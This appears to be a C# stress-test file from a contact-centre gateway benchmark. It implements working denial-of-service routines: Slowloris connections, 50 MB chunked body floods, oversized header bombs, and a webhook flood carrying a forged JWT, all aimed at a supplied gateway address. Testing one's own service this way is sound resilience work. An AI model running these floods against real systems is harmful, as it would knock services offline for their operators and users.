using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;

namespace ContactCenter.Bench.Overload;

/// <summary>What those send who mean no good, at rates that one machine can send. Each runs until it is told to stop, and counts what it sent.</summary>
internal static class Attacks
{
    private static readonly byte[] Filler = Encoding.ASCII.GetBytes(new string('x', 64 * 1024));

    // A token in form, of an account that is none, signed with nothing.
    private const string Forged = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJWb25hZ2UiLCJwYXlsb2FkX2hhc2giOiIwMCIsImlhdCI6MTc2NDAwMDAwMCwianRpIjoiMSIsImFwaV9rZXkiOiJrZXkxIn0.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

    /// <summary>
    /// Two thousand connections, each of which sends a header every second and never ends. They are spread over the second, as what comes from many places is.
    /// </summary>
    public static async Task<int> SlowLoris(Uri gateway, CancellationToken stop)
    {
        var sent = 0;
        await Task.WhenAll(Enumerable.Range(0, 2_000).Select(async place =>
        {
            try
            {
                await Task.Delay(place / 2, stop);
                while (true)
                {
                    using var socket = await Connect(gateway, stop);
                    await socket.SendAsync(Encoding.ASCII.GetBytes($"POST /webhooks/event HTTP/1.1\r\nHost: {gateway.Authority}\r\n"), stop);
                    try
                    {
                        while (true)
                        {
                            await Task.Delay(1_000, stop);
                            await socket.SendAsync("X-More: 1\r\n"u8.ToArray(), stop);
                            Interlocked.Increment(ref sent);
                        }
                    }
                    catch (SocketException)
                    {
                        // The gateway has had enough of it; another takes its place.
                    }
                }
            }
            catch (OperationCanceledException)
            {
                // The time is up.
            }
        }));
        return sent;
    }

    /// <summary>Bodies of fifty megabytes, twenty at a time.</summary>
    public static Task<int> HugeBodies(Uri gateway, CancellationToken stop) => Raw(gateway, 20, TimeSpan.FromMilliseconds(100), async socket =>
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes($"POST /webhooks/event HTTP/1.1\r\nHost: {gateway.Authority}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"), stop);
        for (var sent = 0; sent < 50 * 1024 * 1024; sent += Filler.Length)
        {
            await socket.SendAsync("10000\r\n"u8.ToArray(), stop);
            await socket.SendAsync(Filler, stop);
            await socket.SendAsync("\r\n"u8.ToArray(), stop);
        }
    }, stop);

    /// <summary>Headers of 200 KB, ten at a time.</summary>
    public static Task<int> HeaderBombs(Uri gateway, CancellationToken stop) => Raw(gateway, 10, TimeSpan.FromMilliseconds(50), async socket =>
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes($"POST /webhooks/event HTTP/1.1\r\nHost: {gateway.Authority}\r\n"), stop);
        for (var n = 0; n < 200; n++)
        {
            await socket.SendAsync(Encoding.ASCII.GetBytes($"X-Bomb-{n}: {new string('b', 1_000)}\r\n"), stop);
        }
    }, stop);

    /// <summary>Well-formed webhooks with forged signatures, about five hundred a second.</summary>
    public static async Task<int> SignatureFlood(Uri gateway, CancellationToken stop)
    {
        using var http = new HttpClient { BaseAddress = gateway };
        var sent = 0;
        await Task.WhenAll(Enumerable.Range(0, 10).Select(async _ =>
        {
            try
            {
                while (true)
                {
                    using var request = new HttpRequestMessage(HttpMethod.Post, "/webhooks/event") { Content = new StringContent($$"""{"uuid":"forged","note":"{{new string('n', 4_000)}}"}""", Encoding.UTF8, "application/json") };
                    request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", Forged);
                    using var reply = await http.SendAsync(request, stop);
                    sent += reply.StatusCode == System.Net.HttpStatusCode.Unauthorized ? 1 : 0;
                    await Task.Delay(20, stop);
                }
            }
            catch (OperationCanceledException)
            {
                // The time is up.
            }
        }));
        return sent;
    }

    private static async Task<int> Raw(Uri gateway, int atATime, TimeSpan pause, Func<Socket, Task> send, CancellationToken stop)
    {
        var sent = 0;
        await Task.WhenAll(Enumerable.Range(0, atATime).Select(async _ =>
        {
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    using var socket = await Connect(gateway, stop);
                    Interlocked.Increment(ref sent);
                    await send(socket);
                }
                catch (SocketException)
                {
                    // Refused in the middle, as it should be.
                }
                catch (OperationCanceledException)
                {
                    return;
                }

                await Task.Delay(pause, CancellationToken.None);
            }
        }));
        return sent;
    }

    private static async Task<Socket> Connect(Uri gateway, CancellationToken stop)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(gateway.Host, gateway.Port, stop);
        return socket;
    }
}
